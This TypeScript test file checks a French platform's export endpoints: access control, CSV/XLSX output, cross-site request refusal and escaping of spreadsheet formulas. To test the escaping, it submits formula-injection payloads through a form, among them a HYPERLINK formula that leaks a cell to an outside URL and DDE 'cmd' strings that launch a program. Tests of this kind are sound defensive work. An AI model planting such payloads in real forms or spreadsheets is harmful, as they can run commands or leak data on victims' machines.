import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { randomUUID } from "node:crypto";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { hashPassword } from "@medianum/api";
import type { Database } from "@medianum/db";
import { createTestDatabase } from "@medianum/db/testing";
import superjson from "superjson";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildServer } from "../src/app.js";
import { loadConfig } from "../src/config.js";

let db: Database;
let app: Awaited<ReturnType<typeof buildServer>>;

function fakeApps() {
  const dir = mkdtempSync(join(tmpdir(), "medianum-apps-"));
  for (const name of ["portal", "counsellor", "backoffice"]) {
    mkdirSync(join(dir, name, "dist"), { recursive: true });
    writeFileSync(join(dir, name, "dist", "index.html"), `<!doctype html><title>${name}</title>`);
  }
  return dir;
}

beforeAll(async () => {
  db = await createTestDatabase();
  const passwordHash = await hashPassword("un-bon-mot-de-passe");
  await db.prisma.departement.create({ data: { code: "47", name: "Lot-et-Garonne" } });
  await db.prisma.commune.create({ data: { inseeCode: "47001", name: "Agen", postalCodes: ["47000"], population: 32000, departementCode: "47" } });
  await db.prisma.user.create({ data: { email: "coord@medianum.test", displayName: "Coord", role: "coordinator", passwordHash } });
  const u = await db.prisma.user.create({ data: { email: "cn@medianum.test", displayName: "Camille Conseil", role: "counsellor", passwordHash } });
  const c = await db.prisma.counsellor.create({ data: { userId: u.id } });
  await db.prisma.activityRecord.createMany({
    data: Array.from({ length: 2500 }, (_, i) => ({
        id: randomUUID(),
        counsellorId: c.id,
        type: "Individuel",
        date: new Date(Date.UTC(2026, 0, 1 + (i % 300))),
        durationMinutes: 30,
        locationType: "Domicile",
        communeInsee: "47001",
        themes: ["Email"],
    })),
  });
  const config = { ...loadConfig({ NODE_ENV: "production", LOG_LEVEL: "silent", PUBLIC_URL: "http://localhost:3000" }), appsDir: fakeApps(), jobsEnabled: false };
  app = await buildServer({ config, db });
}, 120_000);
afterAll(async () => {
  await app?.close();
  await db?.close();
});

async function login(email: string) {
  const res = await app.inject({
    method: "POST",
    url: "/api/trpc/auth.login",
    headers: { "content-type": "application/json", "sec-fetch-site": "same-origin" },
    payload: JSON.stringify(superjson.serialize({ email, password: "un-bon-mot-de-passe" })),
  });
  const cookie = String(res.headers["set-cookie"]).split(";")[0]!;
  return cookie;
}

describe("GET /api/exports/:kind.:format", () => {
  it("streams a CSV of every record of the filters (more than one database batch) to the coordination team", async () => {
    const cookie = await login("coord@medianum.test");
    const res = await app.inject({ url: "/api/exports/activities.csv?from=2026-01-01&to=2026-12-31", headers: { cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toBe('attachment; filename="medianum-activities-2026-01-01-au-2026-12-31.csv"');
    const lines = res.body.replace(/^\uFEFF/, "").trim().split("\n");
    expect(lines).toHaveLength(2501);
    expect(lines[1]).toContain(";Camille Conseil;");
    expect(await db.prisma.auditLog.count({ where: { action: "exports.download" } })).toBe(1);
  });

  it("sends an XLSX file", async () => {
    const cookie = await login("coord@medianum.test");
    const res = await app.inject({ url: "/api/exports/college-sessions.xlsx?from=2026-01-01&to=2026-12-31", headers: { cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(res.rawPayload.subarray(0, 2).toString()).toBe("PK");
  });

  it("a collège named like a formula on the public form comes out as text in college-sessions.csv", async () => {
    const payload = '=HYPERLINK("http://x?"&A1,"clic")';
    const inDays = (d: number) => new Date(Date.now() + d * 86_400_000).toISOString().slice(0, 10);
    const submitted = await app.inject({
      method: "POST",
      url: "/api/trpc/college.submit",
      headers: { "content-type": "application/json", origin: "http://localhost:3000" },
      payload: JSON.stringify(
        superjson.serialize({
          uai: "0470040N",
          establishmentName: payload,
          address: "@SUM(1+1)*cmd|' /C calc'!A0",
          communeInsee: "47001",
          requesterName: "+cmd|' /C calc'!A0",
          requesterRole: "cpe",
          email: "cpe@college.fr",
          classes: [{ level: "5e", pupils: 26 }],
          topics: ["cyberbullying"],
          periods: [{ from: inDays(20), to: inDays(40) }],
          consent: true,
        }),
      ),
    });
    expect(submitted.statusCode, submitted.body).toBe(200);
    const request = await db.prisma.collegeRequest.findFirstOrThrow({ where: { establishmentName: payload }, include: { classes: true } });
    const counsellor = await db.prisma.counsellor.findFirstOrThrow();
    const coord = await login("coord@medianum.test");
    const scheduled = await app.inject({
      method: "POST",
      url: "/api/trpc/college.schedule",
      headers: { "content-type": "application/json", origin: "http://localhost:3000", cookie: coord },
      payload: JSON.stringify(
        superjson.serialize({
          requestId: request.id,
          sessions: [{ classIds: [request.classes[0]!.id], day: inDays(30), time: "09:00", durationMinutes: 55, counsellorIds: [counsellor.id] }],
          confirmConflicts: true,
        }),
      ),
    });
    expect(scheduled.statusCode, scheduled.body).toBe(200);

    const res = await app.inject({ url: `/api/exports/college-sessions.csv?from=${inDays(0)}&to=${inDays(60)}`, headers: { cookie: coord } });
    expect(res.statusCode).toBe(200);
    // CSV quoting doubles the inner quotes; the cell itself starts with an apostrophe.
    expect(res.body).toContain(`;"'=HYPERLINK(""http://x?""&A1,""clic"")";`);
    expect(res.body).not.toMatch(/(^|;)"?=/m);
  });

  it("refuses visitors, counsellors and bad filters, in French", async () => {
    const anonymous = await app.inject("/api/exports/activities.csv?from=2026-01-01&to=2026-12-31");
    expect(anonymous.statusCode).toBe(401);
    const cn = await login("cn@medianum.test");
    const counsellor = await app.inject({ url: "/api/exports/activities.xlsx?from=2026-01-01&to=2026-12-31", headers: { cookie: cn } });
    expect(counsellor.statusCode).toBe(403);
    expect(counsellor.json().error).toBe("Cet espace est réservé à l'équipe de coordination.");
    const coord = await login("coord@medianum.test");
    const bad = await app.inject({ url: "/api/exports/activities.csv?from=2026-12-31&to=2026-01-01", headers: { cookie: coord } });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().fieldErrors.to).toEqual(["La date de fin doit suivre la date de début."]);
  });

  it("a link on another site does not make a staff member's browser export (nothing downloaded, nothing logged)", async () => {
    const cookie = await login("coord@medianum.test");
    const before = await db.prisma.auditLog.count({ where: { action: "exports.download" } });
    for (const site of ["cross-site", "same-site"]) {
      const res = await app.inject({ url: "/api/exports/activities.csv?from=2026-01-01&to=2026-12-31", headers: { cookie, "sec-fetch-site": site } });
      expect(res.statusCode, site).toBe(403);
      expect(res.json().error).toBe("Demande refusée : elle ne vient pas d'une page de Médianum. Rechargez la page de Médianum et réessayez.");
    }
    expect(await db.prisma.auditLog.count({ where: { action: "exports.download" } })).toBe(before);
    const fromOurPage = await app.inject({ url: "/api/exports/activities.csv?from=2026-01-01&to=2026-12-31", headers: { cookie, "sec-fetch-site": "same-origin" } });
    expect(fromOurPage.statusCode).toBe(200);
  });
});
